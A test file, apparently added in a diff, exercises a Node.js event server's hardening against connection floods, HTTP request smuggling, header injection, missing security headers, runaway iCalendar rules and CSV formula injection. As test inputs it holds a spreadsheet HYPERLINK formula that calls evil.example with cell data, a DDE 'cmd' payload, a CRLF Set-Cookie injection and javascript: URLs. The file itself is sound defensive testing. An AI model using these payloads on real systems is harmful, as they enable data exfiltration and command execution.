@@ -1,0 +1,291 @@
+// Issue 13 (hardening), the server's side: connection floods, bodies before
+// sign-in, strict framing, header injection, security headers, and iCalendar
+// rules that used to hang an import. Everything on 127.0.0.1.
+import assert from 'node:assert/strict';
+import net from 'node:net';
+import { spawnSync } from 'node:child_process';
+import { existsSync, writeFileSync } from 'node:fs';
+import { after, before, describe, test } from 'node:test';
+
+import { ConsoleClient } from './console_client.mjs';
+import { cli, request, startServer, tempDir } from './lib.mjs';
+
+/** Opens `n` TCP connections that send nothing; resolves when all are connected. */
+async function idleConnections(url, n) {
+  const { port } = new URL(url);
+  const sockets = [];
+  const state = { closed: 0 };
+  for (let i = 0; i < n; ++i) {
+    await new Promise((resolve) => {
+      const s = net.connect({ host: '127.0.0.1', port: Number(port) }, resolve);
+      s.on('error', () => {});
+      s.on('close', () => { state.closed += 1; });
+      s.on('error', resolve);
+      sockets.push(s);
+    });
+  }
+  return { sockets, state, destroy: () => sockets.forEach((s) => s.destroy()) };
+}
+
+/** Sends `raw` bytes on a new connection; resolves {text, closed} once the server closes it or 5 s pass. */
+function rawExchange(url, raw) {
+  const { port } = new URL(url);
+  return new Promise((resolve) => {
+    const s = net.connect({ host: '127.0.0.1', port: Number(port) }, () => s.write(raw));
+    let text = '';
+    const timer = setTimeout(() => { s.destroy(); resolve({ text, closed: false }); }, 5000);
+    s.on('data', (d) => { text += d.toString('latin1'); });
+    s.on('error', () => {});
+    s.on('close', () => { clearTimeout(timer); resolve({ text, closed: true }); });
+  });
+}
+
+const status = (text) => Number((text.match(/^HTTP\/1\.1 (\d{3})/) || [])[1]);
+
+describe('connection floods', () => {
+  let tmp;
+  before(() => { tmp = tempDir(); });
+  after(() => tmp.remove());
+
+  test('more idle connections than file descriptors: the server keeps answering and logs little', async () => {
+    const server = await startServer(`sqlite:///${tmp.dir}/flood.db`, [], undefined, { fdLimit: 256 });
+    try {
+      const flood = await idleConnections(server.url, 400);
+      const started = Date.now();
+      const probe = await request(`${server.url}/readyz`);
+      assert.equal(probe.status, 200);
+      assert.ok(Date.now() - started < 5000, 'the probe is answered at once');
+      assert.ok(flood.state.closed >= 400 - 256, `the oldest idle connections were closed (${flood.state.closed})`);
+      flood.destroy();
+      assert.ok(server.stderr().length < 20_000, `the log stays small (${server.stderr().length} bytes)`);
+      assert.doesNotMatch(server.stderr(), /Too many open files/);
+    } finally {
+      assert.equal(await server.stop(), 0);
+    }
+  });
+
+  test('--max-connections-per-client closes that client\'s oldest idle connections first', async () => {
+    const server = await startServer(`sqlite:///${tmp.dir}/per-client.db`, ['--max-connections-per-client', '10']);
+    try {
+      const flood = await idleConnections(server.url, 30);
+      const probe = await request(`${server.url}/readyz`);
+      assert.equal(probe.status, 200);
+      await new Promise((r) => setTimeout(r, 50));
+      // The first 20 (and then one more for the probe) were closed; the newest stay open.
+      assert.ok(flood.state.closed >= 20, `closed ${flood.state.closed}`);
+      assert.equal(flood.sockets[0].destroyed || flood.sockets[0].readyState !== 'open', true);
+      assert.equal(flood.sockets[29].readyState, 'open');
+      flood.destroy();
+    } finally {
+      await server.stop();
+    }
+  });
+});
+
+describe('bodies, framing and headers', () => {
+  let tmp, server, db;
+  const EDITOR = ['editor@example.org', 'editor password 1234'];
+  const DOOR = ['door@example.org', 'door password 12345'];
+  before(async () => {
+    tmp = tempDir();
+    db = `sqlite:///${tmp.dir}/hardening.db`;
+    assert.equal(cli(['migrate', '--db', db]).status, 0);
+    assert.equal(cli(['user', 'add', EDITOR[0], '--role', 'editor', '--db', db], { input: `${EDITOR[1]}\n` }).status, 0);
+    assert.equal(cli(['user', 'add', DOOR[0], '--role', 'door', '--db', db], { input: `${DOOR[1]}\n` }).status, 0);
+    server = await startServer(db, ['--max-body-bytes-in-flight', String(40 << 20)]);
+  });
+  after(async () => { await server.stop(); tmp.remove(); });
+
+  test('an anonymous upload gets the default limit, decided before the body is read', async () => {
+    // Content-Length over 1 MiB: 413 at once, although the body never comes.
+    const big = await rawExchange(server.url,
+      'POST /admin/import HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 5242880\r\n\r\n');
+    assert.equal(status(big.text), 413, big.text);
+    assert.ok(big.closed);
+    // A chunked body is cut at 1 MiB.
+    const chunk = Buffer.alloc(256 * 1024, 'a');
+    let raw = 'POST /admin/import HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n';
+    for (let i = 0; i < 6; ++i) raw += `${chunk.length.toString(16)}\r\n${chunk.toString('latin1')}\r\n`;
+    const chunked = await rawExchange(server.url, raw + '0\r\n\r\n');
+    assert.equal(status(chunked.text), 413, chunked.text.slice(0, 200));
+  });
+
+  test('a signed-in editor uploads a 2 MiB file sent with Content-Length', async () => {
+    const editor = await new ConsoleClient(server.url).signIn(...EDITOR);
+    const header = 'key,title,starts_at,ends_at,time_zone,venue,description\n';
+    let rows = '';
+    for (let i = 0; rows.length < 2.2 * (1 << 20); ++i)
+      rows += `big-${i},Talk ${i},2031-06-11 10:00,2031-06-11 11:00,Europe/Berlin,Hall,${'x'.repeat(400)}\n`;
+    const res = await editor.upload('/admin/import', { time_zone: 'Europe/Berlin' }, { name: 'big.csv', content: header + rows });
+    assert.notEqual(res.status, 413, res.body.toString().slice(0, 300));
+    assert.equal(res.status, 200);
+    assert.match(res.body.toString(), /big-0|Talk 0|rows?/);
+  });
+
+  test('requests whose framing is ambiguous are refused and the connection closed (RFC 9112)', async () => {
+    const cases = [
+      ['Transfer-Encoding: gzip\r\n', 400],
+      ['Transfer-Encoding: chunked, identity\r\n', 400],
+      ['Transfer-Encoding: xchunked\r\nContent-Length: 5\r\n', 400],
+      ['Transfer-Encoding: gzip, chunked\r\n', 501],
+    ];
+    for (const [head, want] of cases) {
+      const r = await rawExchange(server.url, `POST /api/v1/events HTTP/1.1\r\nHost: x\r\n${head}\r\nGET /readyz HTTP/1.1\r\nHost: x\r\n\r\n`);
+      assert.equal(status(r.text), want, `${head.trim()}: ${r.text.slice(0, 120)}`);
+      assert.equal((r.text.match(/HTTP\/1\.1 /g) || []).length, 1, 'the smuggled request is never answered');
+      assert.ok(r.closed);
+    }
+    const noHost = await rawExchange(server.url, 'GET /readyz HTTP/1.1\r\n\r\n');
+    assert.equal(status(noHost.text), 400);
+    const twoHosts = await rawExchange(server.url, 'GET /readyz HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n');
+    assert.equal(status(twoHosts.text), 400);
+    const http10 = await rawExchange(server.url, 'GET /readyz HTTP/1.0\r\n\r\n');
+    assert.equal(status(http10.text.replace('HTTP/1.0', 'HTTP/1.1')), 200);
+  });
+
+  test('a check-in\'s return target cannot inject a header', async () => {
+    const reg = await request(`${server.url}/api/v1/events/hl27-005/registrations`, { method: 'POST',
+      body: JSON.stringify({ name: 'Ina Inject', email: 'ina@example.org' }), headers: { 'content-type': 'application/json' } });
+    assert.ok([201, 202].includes(reg.status), reg.body.toString());
+    const code = JSON.parse(reg.body).registration.ticket_code;
+    const door = await new ConsoleClient(server.url).signIn(...DOOR);
+    const res = await door.post('/admin/check-in', { code, from: 'hl27-005\r\nSet-Cookie: injected=1' });
+    assert.ok([200, 303].includes(res.status), String(res.status));
+    assert.ok(![].concat(res.headers['set-cookie'] || []).some((c) => c.startsWith('injected')), 'no injected cookie');
+    assert.ok(!String(res.headers.location || '').includes('injected'));
+  });
+
+  test('security headers on public pages, the API and the console', async () => {
+    for (const path of ['/', '/events/hl27-005', '/admin/login']) {
+      const r = await request(`${server.url}${path}`);
+      assert.equal(r.status, 200, path);
+      assert.equal(r.headers['x-content-type-options'], 'nosniff', path);
+      assert.match(r.headers['content-security-policy'] || '', /frame-ancestors 'none'/, path);
+      assert.match(r.headers['content-security-policy'] || '', /script-src 'self'/, path);
+      assert.equal(r.headers['x-frame-options'], 'DENY', path);
+      assert.ok(r.headers['referrer-policy'], path);
+      assert.match(r.headers['permissions-policy'] || '', /microphone=\(\)/, path);
+      assert.equal(r.headers['strict-transport-security'], undefined, 'no HSTS without an https public URL');
+    }
+    const api = await request(`${server.url}/api/v1/events`);
+    assert.equal(api.headers['x-content-type-options'], 'nosniff');
+  });
+});
+
+describe('iCalendar rules that used to hang an import', () => {
+  let tmp;
+  before(() => { tmp = tempDir(); });
+  after(() => tmp.remove());
+  const calendar = (lines) => ['BEGIN:VCALENDAR', 'VERSION:2.0', 'PRODID:-//test//EN', 'BEGIN:VEVENT', ...lines,
+    'END:VEVENT', 'END:VCALENDAR', ''].join('\r\n');
+
+  for (const [name, lines] of [
+    ['SECONDLY from 2020', ['UID:a@b', 'DTSTART:20200101T100000Z', 'DTEND:20200101T100001Z', 'SUMMARY:Loop', 'RRULE:FREQ=SECONDLY']],
+    ['SECONDLY on 30 February', ['UID:a@b', 'DTSTART:20270101T100000Z', 'DTEND:20270101T110000Z', 'SUMMARY:Loop',
+      'RRULE:FREQ=SECONDLY;BYMONTH=2;BYMONTHDAY=30']],
+    ['DAILY on 30 February', ['UID:c@d', 'DTSTART:20270101T100000Z', 'DTEND:20270101T110000Z', 'SUMMARY:Never',
+      'RRULE:FREQ=DAILY;BYMONTH=2;BYMONTHDAY=30']],
+  ]) {
+    test(`${name}: refused with its line, at once`, () => {
+      const file = `${tmp.dir}/${name.replace(/\W+/g, '-')}.ics`;
+      writeFileSync(file, calendar(lines));
+      const started = Date.now();
+      const r = cli(['import', file, '--db', `sqlite:///${tmp.dir}/ics.db`, '--report', 'json'], { timeout: 30_000 });
+      assert.ok(Date.now() - started < 15_000, 'the import ends');
+      const report = JSON.parse(r.stdout);
+      const text = JSON.stringify(report);
+      assert.match(text, /RRULE/);
+      assert.match(text, /hourly|never occur/);
+      assert.match(text, /"line":4/);
+    });
+  }
+});
+
+describe('exports are safe to open, and links are http(s) only', () => {
+  let tmp, db, server;
+  const staff = 'hardening-staff-token-0123456789';
+  const FORMULA = `=HYPERLINK("http://evil.example/"&A1,"click")`;
+  before(async () => {
+    tmp = tempDir();
+    db = `sqlite:///${tmp.dir}/exports.db`;
+    const csv = 'key,title,description,starts_at,ends_at,time_zone,organizer,url\n' +
+      `f1,"${FORMULA.replaceAll('"', '""')}",-5 °C outside,2031-06-11 19:00,21:00,Europe/Berlin,@team,https://example.org/\n` +
+      `f2,'Tis the season,"'=already escaped",2031-06-12 19:00,21:00,Europe/Berlin,+49 40 1234,mailto:info@example.org\n`;
+    writeFileSync(`${tmp.dir}/f.csv`, csv);
+    const imp = cli(['import', `${tmp.dir}/f.csv`, '--db', db, '--publish']);
+    assert.equal(imp.status, 0, imp.stdout + imp.stderr);
+    process.env.MARQUEE_STAFF_TOKENS = staff;
+    server = await startServer(db);
+  });
+  after(async () => { await server.stop(); tmp.remove(); });
+
+  test('the events CSV escapes formulas and round-trips exactly', async () => {
+    const out = cli(['export', '--format', 'csv', '--db', db]).stdout;
+    assert.ok(out.includes(`"'=HYPERLINK(`), 'formula escaped');
+    assert.ok(out.includes(`"'-5 °C outside"`));
+    assert.ok(out.includes(`"'@team"`) && out.includes(`"'+49 40 1234"`));
+    assert.ok(out.includes(`"'Tis the season"`), 'a plain apostrophe is left alone');
+    // Marquee's own layout reads "'=…" as the escaped form of "=…".
+    assert.ok(out.includes(`"'=already escaped"`));
+    writeFileSync(`${tmp.dir}/export.csv`, out);
+    const db2 = `sqlite:///${tmp.dir}/again.db`;
+    assert.equal(cli(['import', `${tmp.dir}/export.csv`, '--db', db2]).status, 0);
+    assert.equal(cli(['export', '--format', 'csv', '--db', db2]).stdout, out, 'export → import → export is identical');
+    const e = (await request(`${server.url}/api/v1/events/f1`)).body.toString();
+    assert.equal(JSON.parse(e).event.title, FORMULA);
+    const f2 = JSON.parse((await request(`${server.url}/api/v1/events/f2`)).body.toString()).event;
+    assert.equal(f2.description, '=already escaped');
+    assert.equal(f2.title, "'Tis the season");
+  });
+
+  test('an anonymous sign-in failure cannot plant a formula in the audit CSV', async () => {
+    const form = await request(`${server.url}/admin/login`);
+    const csrf = [].concat(form.headers['set-cookie']).find((c) => c.startsWith('marquee_login_csrf=')).split(';')[0].split('=')[1];
+    await request(`${server.url}/admin/login`, { method: 'POST',
+      body: new URLSearchParams({ email: '=cmd|\' /C calc\'!A0', password: 'wrong password here', csrf_token: csrf }).toString(),
+      headers: { 'content-type': 'application/x-www-form-urlencoded', cookie: `marquee_login_csrf=${csrf}` } });
+    const audit = await request(`${server.url}/api/v1/admin/audit.csv`, { headers: { authorization: `Bearer ${staff}` } });
+    assert.equal(audit.status, 200);
+    const text = audit.body.toString();
+    assert.ok(text.includes('cmd|'), 'the failed sign-in is in the log');
+    for (const cell of text.split(/","|^"|"\r\n"?/m)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${cell}`);
+  });
+
+  test('javascript:, data: and other schemes are refused with line and field', () => {
+    const csv = 'key,title,starts_at,ends_at,time_zone,url,image_url\n' +
+      'a,One,2031-06-11 19:00,21:00,Europe/Berlin,javascript:alert(1),\n' +
+      'b,Two,2031-06-11 19:00,21:00,Europe/Berlin," JaVa\tScRiPt:alert(1)",\n' +
+      'c,Three,2031-06-11 19:00,21:00,Europe/Berlin,https://example.org/,"data:image/svg+xml;base64,PHN2Zz4="\n' +
+      'd,Four,2031-06-11 19:00,21:00,Europe/Berlin,mailto:x@example.org,https://example.org/i.png\n';
+    writeFileSync(`${tmp.dir}/urls.csv`, csv);
+    const r = cli(['check', `${tmp.dir}/urls.csv`, '--report', 'json']);
+    const report = JSON.parse(r.stdout);
+    const errors = report.issues.filter((i) => i.severity === 'error').map((i) => `${i.line}:${i.field}`);
+    assert.deepEqual(errors.sort(), ['2:url', '3:url', '4:image_url']);
+    assert.equal(report.accepted, 1);
+  });
+});
+
+describe('faults reported as they are', () => {
+  test('a backup whose audit entry cannot be stored is reported written, the audit failure apart', () => {
+    const tmp = tempDir();
+    try {
+      const db = `${tmp.dir}/full.db`;
+      assert.equal(cli(['migrate', '--db', `sqlite:///${db}`]).status, 0);
+      // The audit insert fails as it does on a full store disk.
+      const py = spawnSync('python3', ['-c', `import sqlite3; c = sqlite3.connect(${JSON.stringify(db)}); ` +
+        `c.execute("CREATE TRIGGER full BEFORE INSERT ON audit_log BEGIN SELECT RAISE(ABORT, 'database or disk is full'); END"); c.commit()`],
+      { encoding: 'utf8' });
+      assert.equal(py.status, 0, py.stderr);
+      const r = cli(['backup', '--backup-dir', `${tmp.dir}/backups`, '--db', `sqlite:///${db}`]);
+      assert.equal(r.status, 0, r.stderr);
+      const file = r.stdout.trim().split(' ')[0];
+      assert.ok(existsSync(file), r.stdout);
+      assert.match(r.stderr, /backup was written, but its audit entry could not be stored: .*disk is full/);
+      const restored = cli(['restore', file, '--db', `sqlite:///${tmp.dir}/restored.db`]);
+      assert.equal(restored.status, 0, restored.stderr);
+    } finally {
+      tmp.remove();
+    }
+  });
+});
